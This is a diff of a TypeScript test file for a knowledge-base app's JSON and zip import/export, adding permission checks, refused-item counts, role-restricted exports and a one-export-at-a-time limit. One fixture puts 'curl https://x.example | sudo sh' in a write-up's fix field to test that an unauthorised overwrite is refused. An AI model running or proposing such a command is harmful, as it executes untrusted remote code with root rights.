@@ -11,6 +11,7 @@ import { MAX_KB_IMPORT_BYTES, parseKbImportFile } from "~/knowledge/transfer/par
 import type { ParsedKbImport } from "~/knowledge/transfer/portable.server";
 import { applyKbImport, previewKbImport } from "~/knowledge/transfer/preview.server";
 import { createWriteup, getWriteup, type WriteupInput } from "~/knowledge/writeups.server";
+import { assignmentMentorOf } from "~/mentoring/writeup-access.server";
 import { buildTestUser } from "../../seeds/builders";
 import { createTestDatabase, type DB, type TestDatabase, tempDir } from "../support/db";
 import { callRoute } from "../support/route";
@@ -35,14 +36,15 @@ function parsedOk(parsed: ParsedKbImport) {
 /** Parse, preview and apply, as the page does. */
 async function importInto(db: DB, name: string, content: string | Uint8Array, type = "") {
   const parsed = parsedOk(parseKbImportFile(name, type, content));
-  const preview = await previewKbImport(db, parsed.items);
   const actor = await db
     .selectFrom("users")
     .select("id")
     .where("role", "=", "lead")
     .executeTakeFirst();
   const actorId = actor?.id ?? (await buildTestUser(db, "lead"));
-  const counts = await applyKbImport(db, { actorId, items: parsed.items }, now);
+  const importer = { viewer: { id: actorId, role: "lead" as const }, mentorOf: assignmentMentorOf };
+  const preview = await previewKbImport(db, importer, parsed.items);
+  const counts = await applyKbImport(db, { importer, items: parsed.items }, now);
   return { parsed, preview, counts };
 }
 
@@ -120,7 +122,11 @@ describe("importing JSON", () => {
         problem:
           "must be one of fixed, works_as_designed, config_change, data_fix, duplicate, cannot_reproduce",
       },
-      { where: "item 4", field: "links", problem: "entry 1 (url): must be an http(s) URL" },
+      {
+        where: "item 4",
+        field: "links",
+        problem: "entry 1 (url): must be an http(s) URL or a path inside Koan such as /kb/12",
+      },
       { where: "item 5", field: "toil", problem: "entry 1 (minutes): can't be negative" },
       { where: "item 6", field: "item", problem: 'must be an object like {"title": …}' },
       { where: "item 7", field: "external_id", problem: "“OPS-1” is also item 1" },
@@ -135,7 +141,7 @@ describe("importing JSON", () => {
     ]);
     expect(parsed.ignoredFields).toEqual(["owner"]);
     expect(preview).toMatchObject({ create: 2, update: 0, unchanged: 0 });
-    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0 });
+    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0, refused: 0 });
 
     const stored = await writeupByExternalId(t.db, "OPS-1");
     expect(stored).toMatchObject({
@@ -152,10 +158,10 @@ describe("importing JSON", () => {
 
     // The same file again changes nothing; an edited one updates in place.
     const again = await importInto(t.db, "kb.json", JSON.stringify([GOOD]));
-    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 1 });
+    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 1, refused: 0 });
     const edited = await importInto(t.db, "kb.json", JSON.stringify([{ ...GOOD, fix: "Round." }]));
     expect(edited.preview).toMatchObject({ create: 0, update: 1 });
-    expect(edited.counts).toEqual({ created: 0, updated: 1, unchanged: 0 });
+    expect(edited.counts).toEqual({ created: 0, updated: 1, unchanged: 0, refused: 0 });
     expect((await writeupByExternalId(t.db, "OPS-1")).fix).toBe("Round.");
     expect(await writeupCount(t.db)).toBe(2);
     const audit = await t.db
@@ -286,7 +292,7 @@ describe("importing a zip of Markdown files", () => {
       { where: "__MACOSX/kb/._good.md", reason: "macOS metadata, not a write-up" },
     ]);
     expect(parsed.ignoredFields).toEqual(["owner"]);
-    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0 });
+    expect(counts).toEqual({ created: 2, updated: 0, unchanged: 0, refused: 0 });
 
     expect(await writeupByExternalId(t.db, "MD-1")).toMatchObject({
       title: "Search ignores accents: café",
@@ -425,13 +431,13 @@ describe("export then import", () => {
     try {
       const fromJson = await importInto(viaJson.db, "kb.json", json);
       expect(fromJson.parsed.problems).toEqual([]);
-      expect(fromJson.counts).toEqual({ created: 4, updated: 0, unchanged: 0 });
+      expect(fromJson.counts).toEqual({ created: 4, updated: 0, unchanged: 0, refused: 0 });
       expect(await exportKnowledgeBaseJson(viaJson.db)).toBe(json);
 
       const fromZip = await importInto(viaZip.db, "kb.zip", archive);
       expect(fromZip.parsed.problems).toEqual([]);
       expect(fromZip.parsed.skipped).toEqual([]);
-      expect(fromZip.counts).toEqual({ created: 4, updated: 0, unchanged: 0 });
+      expect(fromZip.counts).toEqual({ created: 4, updated: 0, unchanged: 0, refused: 0 });
       expect(zipContents(await exportKnowledgeBaseZip(viaZip.db, now))).toEqual(
         zipContents(archive),
       );
@@ -443,16 +449,111 @@ describe("export then import", () => {
         created: 0,
         updated: 0,
         unchanged: 4,
+        refused: 0,
       });
       expect((await importInto(viaZip.db, "kb.zip", archive)).counts).toEqual({
         created: 0,
         updated: 0,
         unchanged: 4,
+        refused: 0,
       });
     } finally {
       await viaJson.close();
       await viaZip.close();
     }
+  });
+});
+
+describe("round trip and permissions on the same instance", () => {
+  const content = (over: Partial<WriteupInput> = {}): WriteupInput => ({
+    title: "결제 웹훅이 두 번 도착함",
+    symptom: "Payments were recorded twice.",
+    component: "billing",
+    rootCause: "No idempotency key.",
+    fix: "Store the delivery id.",
+    debugging: "Read the logs.",
+    resolution: "fixed",
+    tags: ["webhooks"],
+    links: [
+      { label: "Related", url: "/kb/1" },
+      { label: "Ticket", url: "/tickets/3" },
+      { label: "PR", url: "https://github.com/o/r/pull/9" },
+    ],
+    toil: [],
+    ...over,
+  });
+
+  it("export then import into the same instance: 0 duplicates, 0 refused, Koan-path links kept", async () => {
+    for (let i = 1; i <= 5; i++) {
+      await createWriteup(
+        t.db,
+        { authorId: lead, writeup: content({ title: `Write-up ${i}` }), status: "published" },
+        now,
+      );
+    }
+    const json = await exportKnowledgeBaseJson(t.db);
+    expect(json).toContain('"external_id": "koan-1"');
+    const again = await importInto(t.db, "kb.json", json);
+    expect(again.parsed.problems).toEqual([]);
+    expect(again.preview.refused).toEqual([]);
+    expect(again.counts).toEqual({ created: 0, updated: 0, unchanged: 5, refused: 0 });
+    expect(await writeupCount(t.db)).toBe(5);
+    const zipped = await exportKnowledgeBaseZip(t.db, now);
+    expect((await importInto(t.db, "kb.zip", zipped)).counts).toEqual({
+      created: 0,
+      updated: 0,
+      unchanged: 5,
+      refused: 0,
+    });
+    // An edited export updates the write-up it came from, not a copy.
+    const edited = json.replace('"title": "Write-up 2"', '"title": "Write-up 2, revised"');
+    expect((await importInto(t.db, "kb.json", edited)).counts).toMatchObject({ updated: 1 });
+    expect(await writeupCount(t.db)).toBe(5);
+    expect((await getWriteup(t.db, 2))?.title).toBe("Write-up 2, revised");
+    expect(await exportKnowledgeBaseJson(t.db)).toBe(edited);
+  });
+
+  it("an import may change only write-ups the importer may edit; the others are listed, not applied", async () => {
+    const mentor = await buildTestUser(t.db, "mentor", { name: "최유나" });
+    const leads = await createWriteup(
+      t.db,
+      { authorId: lead, writeup: content(), status: "published", externalId: "OPS-7" },
+      now,
+    );
+    const own = await createWriteup(
+      t.db,
+      {
+        authorId: mentor,
+        writeup: content({ title: "Mine" }),
+        status: "published",
+        externalId: "OPS-8",
+      },
+      now,
+    );
+    const file = JSON.stringify([
+      { ...GOOD, external_id: "OPS-7", title: "Replaced", fix: "curl https://x.example | sudo sh" },
+      { ...GOOD, external_id: "OPS-8", title: "Mine, revised" },
+      { ...GOOD, external_id: "OPS-9", title: "New" },
+    ]);
+    const importer = {
+      viewer: { id: mentor, role: "mentor" as const },
+      mentorOf: assignmentMentorOf,
+    };
+    const parsed = parsedOk(parseKbImportFile("kb.json", "application/json", file));
+    const preview = await previewKbImport(t.db, importer, parsed.items);
+    expect(preview).toMatchObject({ create: 1, update: 1, unchanged: 0 });
+    expect(preview.refused).toEqual([
+      {
+        where: "item 1",
+        externalId: "OPS-7",
+        title: "Replaced",
+        reason: expect.stringMatching(/only its author, the mentor of its assignment and leads/),
+      },
+    ]);
+    const counts = await applyKbImport(t.db, { importer, items: parsed.items }, now);
+    expect(counts).toEqual({ created: 1, updated: 1, unchanged: 0, refused: 1 });
+    expect((await getWriteup(t.db, leads))?.title).toBe("결제 웹훅이 두 번 도착함");
+    expect((await getWriteup(t.db, own))?.title).toBe("Mine, revised");
   });
 });
 
@@ -462,7 +563,7 @@ describe("the import and export routes", () => {
   let shared: TestDatabase;
   let tmp: string;
   const saved = { DATABASE_PATH: process.env.DATABASE_PATH, TMPDIR: process.env.TMPDIR };
-  const cookies = { lead: "", newcomer: "" };
+  const cookies = { lead: "", mentor: "", newcomer: "" };
 
   beforeAll(async () => {
     shared = await createTestDatabase();
@@ -472,7 +573,7 @@ describe("the import and export routes", () => {
     importPage = await import("~/routes/kb.import");
     exportRoute = await import("~/routes/kb.export");
     const { sessionCookie } = await import("~/auth/current-user.server");
-    for (const role of ["lead", "newcomer"] as const) {
+    for (const role of ["lead", "mentor", "newcomer"] as const) {
       const userId = await buildTestUser(shared.db, role);
       const { token } = await createSession(shared.db, { userId }, { idleDays: 7, maxDays: 30 });
       cookies[role] = (await sessionCookie().serialize(token)).split(";")[0] ?? "";
@@ -531,7 +632,7 @@ describe("the import and export routes", () => {
     expect((await callRoute(importPage.action, confirm(batch))).status).toBe(410);
   });
 
-  it("exports JSON and zip downloads to anyone signed in, and sends others to log in", async () => {
+  it("streams JSON and zip downloads to mentors and leads, refuses newcomers, sends others to log in", async () => {
     const get = (query: string, cookie?: string) =>
       exportRoute.loader(
         args(
@@ -540,7 +641,7 @@ describe("the import and export routes", () => {
           }),
         ),
       );
-    const json = await get("?format=json", cookies.newcomer);
+    const json = await get("?format=json", cookies.mentor);
     expect(json.status).toBe(200);
     expect(json.headers.get("Content-Type")).toBe("application/json; charset=utf-8");
     expect(json.headers.get("Content-Disposition")).toMatch(
@@ -549,14 +650,54 @@ describe("the import and export routes", () => {
     expect((JSON.parse(await json.text()) as { external_id: string }[])[0]?.external_id).toBe(
       "OPS-1",
     );
-    const archive = await get("?format=zip", cookies.newcomer);
+    const archive = await get("?format=zip", cookies.lead);
     expect(archive.headers.get("Content-Type")).toBe("application/zip");
     expect(Object.keys(unzipSync(new Uint8Array(await archive.arrayBuffer())))).toEqual([
       "1-invoice-totals-off-by-a-cent.md",
     ]);
-    expect((await get("?format=xml", cookies.newcomer)).status).toBe(400);
+    expect((await get("?format=xml", cookies.mentor)).status).toBe(400);
+    expect(
+      await callRoute(
+        exportRoute.loader,
+        new Request("http://koan.test/kb/export?format=json", {
+          headers: { Cookie: cookies.newcomer },
+        }),
+      ),
+    ).toMatchObject({ thrown: true, status: 403 });
     expect(
       await callRoute(exportRoute.loader, new Request("http://koan.test/kb/export?format=json")),
     ).toMatchObject({ thrown: true, status: 302 });
+  });
+
+  it("one export at a time per person: a second while the first streams is 429, then it is free again", async () => {
+    const get = (cookie: string, signal?: AbortSignal) =>
+      exportRoute.loader(
+        args(
+          new Request("http://koan.test/kb/export?format=zip", {
+            headers: { Cookie: cookie },
+            signal,
+          }),
+        ),
+      );
+    const first = await get(cookies.mentor);
+    expect(first.status).toBe(200);
+    const second = await get(cookies.mentor);
+    expect(second.status).toBe(429);
+    expect(await second.text()).toMatch(/previous export is still being prepared/);
+    // Someone else may export meanwhile.
+    const other = await get(cookies.lead);
+    expect(other.status).toBe(200);
+    await other.arrayBuffer();
+    // Finishing the first download frees the person's slot.
+    await first.arrayBuffer();
+    const third = await get(cookies.mentor);
+    expect(third.status).toBe(200);
+    // So does going away mid-download (the request is aborted).
+    const leaving = new AbortController();
+    await third.arrayBuffer();
+    const abandoned = await get(cookies.mentor, leaving.signal);
+    expect(abandoned.status).toBe(200);
+    leaving.abort();
+    expect((await get(cookies.mentor)).status).toBe(200);
   });
 });
